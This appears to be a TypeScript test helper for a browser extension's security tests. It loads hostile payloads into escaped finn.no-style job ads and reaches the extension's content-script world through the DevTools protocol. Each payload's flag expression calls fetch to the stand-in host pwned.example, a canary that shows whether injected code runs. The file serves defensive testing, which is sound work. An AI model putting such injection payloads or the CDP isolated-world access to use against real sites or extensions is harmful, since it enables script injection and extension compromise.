import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { HOSTILE_FIXTURES } from './paths.ts';

export interface Payload {
  id: number;
  name: string;
  payload: string;
}

/** The expression every payload runs if anything ever executes it. */
export function flagExpression(id: number): string {
  return `(globalThis.__pwned=${id},fetch('https://pwned.example/${id}'))`;
}

export const PWNED_HOST = 'pwned.example';

export function loadPayloads(): Payload[] {
  const data = JSON.parse(readFileSync(join(HOSTILE_FIXTURES, 'payloads.json'), 'utf8')) as { payloads: Payload[] };
  return data.payloads.map((p) => ({ ...p, payload: p.payload.split('$FLAG').join(flagExpression(p.id)) }));
}

const escapeText = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const escapeAttr = (s: string): string => escapeText(s).replace(/"/g, '&quot;');
/** JSON that cannot end its <script> element early. */
const scriptSafeJson = (value: unknown): string =>
  JSON.stringify(value).replace(/</g, '\\u003c').replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');

/**
 * A finn.no-style ad carrying `payload` in its title, headings, requirement text, attributes and
 * JSON-LD strings, each escaped for its place: the page shows the payload as text and runs none of it.
 */
export function hostileAdPage(payload: Payload): string {
  const template = readFileSync(join(HOSTILE_FIXTURES, 'ad-template.html'), 'utf8');
  const jsonLd = {
    '@context': 'https://schema.org',
    '@type': 'JobPosting',
    title: `Helsesekretær ${payload.payload}`,
    description: `<p>Vi søker en helsesekretær. ${payload.payload}</p><ul><li>Autorisasjon som helsesekretær er et krav ${payload.payload}</li></ul>`,
    qualifications: `Autorisasjon som helsesekretær er et krav ${payload.payload}`,
    url: payload.payload,
    hiringOrganization: { '@type': 'Organization', name: payload.payload, sameAs: payload.payload, logo: payload.payload },
  };
  return template
    .replace(/%%JSONLD%%/g, () => scriptSafeJson(jsonLd))
    .replace(/%%ATTR%%/g, () => escapeAttr(payload.payload))
    .replace(/%%TEXT%%/g, () => escapeText(payload.payload));
}

/** The special hostile pages (deep DOM, 100k text nodes, huge strings, broken JSON-LD, ...). */
export function specialPages(): { name: string; file: string }[] {
  const dir = join(HOSTILE_FIXTURES, 'special');
  return readdirSync(dir)
    .filter((f) => f.endsWith('.html'))
    .sort()
    .map((f) => ({ name: f.replace(/\.html$/, ''), file: join(dir, f) }));
}

/**
 * The extension's content-script world in `page` (its isolated world, top frame), reached through
 * the DevTools protocol as a red team would: code run here has the content script's chrome.* access
 * and sender identity — a stand-in for a content script under the page's control.
 */
export async function contentScriptWorld(
  context: import('playwright-core').BrowserContext,
  page: import('playwright-core').Page,
  extensionId: string,
): Promise<{ evaluate<T>(expression: string): Promise<T>; detach(): Promise<void> }> {
  const cdp = await context.newCDPSession(page);
  const contexts: { id: number; origin: string; auxData?: { frameId?: string; type?: string } }[] = [];
  cdp.on('Runtime.executionContextCreated', (event: { context: (typeof contexts)[number] }) => void contexts.push(event.context));
  await cdp.send('Runtime.enable');
  const { frameTree } = (await cdp.send('Page.getFrameTree')) as { frameTree: { frame: { id: string } } };
  const deadline = Date.now() + 10_000;
  let found: (typeof contexts)[number] | undefined;
  while (!(found = contexts.find((c) => c.origin.startsWith(`chrome-extension://${extensionId}`) && c.auxData?.frameId === frameTree.frame.id))) {
    if (Date.now() > deadline) throw new Error('no content-script world in the page');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const contextId = found.id;
  return {
    async evaluate<T>(expression: string): Promise<T> {
      const reply = (await cdp.send('Runtime.evaluate', { expression, contextId, awaitPromise: true, returnByValue: true })) as {
        result: { value?: T };
        exceptionDetails?: { text: string; exception?: { description?: string } };
      };
      if (reply.exceptionDetails) throw new Error(reply.exceptionDetails.exception?.description ?? reply.exceptionDetails.text);
      return reply.result.value as T;
    },
    detach: () => cdp.detach(),
  };
}

/** A small finn.no-style ad that requires authorisation (a reader without it gets ✗). */
export function plainAd(title = 'Helsesekretær', requirement = 'Autorisasjon som helsesekretær er et krav'): string {
  return `<!DOCTYPE html><html lang="nb"><head><meta charset="utf-8"><title>${title} | FINN.no</title></head><body>
<main id="main-content"><section class="space-y-16"><p class="s-text-subtle">Storgata Legesenter AS</p><h1 class="t3">${title}, 100 % fast stilling</h1></section>
<section class="import-decoration"><p>Vi søker en ${title.toLowerCase()} i 100 % fast stilling. Søknadsfrist 1. mars.</p>
<h3>Kvalifikasjoner</h3><ul><li>${requirement}</li><li>Erfaring fra legekontor er en fordel</li></ul></section></main></body></html>`;
}
